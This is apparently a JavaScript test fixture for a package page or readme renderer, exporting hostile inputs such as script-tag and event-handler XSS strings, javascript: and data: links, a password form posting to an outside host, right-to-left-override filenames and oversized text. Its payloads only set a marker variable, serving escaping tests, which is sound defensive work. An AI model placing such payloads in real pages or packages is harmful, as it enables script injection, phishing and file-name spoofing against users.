// What somebody would publish who wants to act in the browsers of all who look: texts, a readme, names of files.
// Knows nothing of how pages are made.

/** What all of it tries to set, and what pages are looked at for. */
export const MARK = 'noparBroken';

const ACT = `globalThis.${MARK}=1`;

/** A text that leaves every quote and tag it is put into. */
export const TEXT = `'"></title></textarea></script><script>${ACT}</script><img src=x onerror="${ACT}"><svg/onload=${ACT}>{{7*7}}&lt;`;

/** A word that no line is wide enough for. */
export const LONG = 'interminable'.repeat(25);

/** A link that would run. */
export const LINK = `javascript:${ACT}`;

/** Text that shows itself backwards. */
export const BACKWARDS = '\u202egnp.exe.txt';

/** The name of a package that does, and would turn around what stands beside it. */
export const BACKWARDS_NAME = 'left-\u202enigram';

/** A readme that tries whatever Markdown and HTML have. */
export const README = `# A readme ${TEXT}

<script>${ACT}</script>
<style>body { display: none }</style>
<iframe src="https://elsewhere.example/"></iframe>
<form action="https://elsewhere.example/"><input name="password"><button>Send</button></form>
<img src="https://elsewhere.example/pixel.png" onerror="${ACT}">
<a href="${LINK}" onclick="${ACT}">click</a> <a id="main" name="q">an id</a>
<div style="position:fixed;inset:0;background:red" class="top">over all</div>
<svg><animate onbegin="${ACT}" attributeName="x" dur="1s"></animate></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${ACT}"></style></mglyph></table></mtext></math>

[a link](${LINK}) ![an image](https://elsewhere.example/image.png) ![data](data:text/html,<script>${ACT}</script>)
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [other](//elsewhere.example/x) <https://elsewhere.example/>

${LONG}

\`\`\`html
<script>${ACT}</script> ${'a long line of code '.repeat(30)}
\`\`\`

| a | wide | table | of | many | columns | that | does | not | fit |
|---|---|---|---|---|---|---|---|---|---|
| ${'| some-longer-cell-text '.repeat(9)} | ${LONG.slice(0, 60)} |
`;

/** The same, nested so that nobody should try to make HTML of it. */
export const DEEP_README = `${README}
${'> '.repeat(200)}deep

${'- '.repeat(50)}deeper
`;

/** Files of a tarball. */
export const FILES = {
  'README.md': README,
  [`<img src=x onerror="${ACT}">.js`]: `</code></pre><script>${ACT}</script>\n`,
  [`"quotes' & <b>.txt`]: 'in quotes\n',
  [BACKWARDS]: 'backwards\n',
  [`${'a-long-folder/'.repeat(8)}and-${'a-long-name'.repeat(8)}.js`]: `${'x'.repeat(3000)}\n`,
  'picture.png': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3, 0xff]),
};
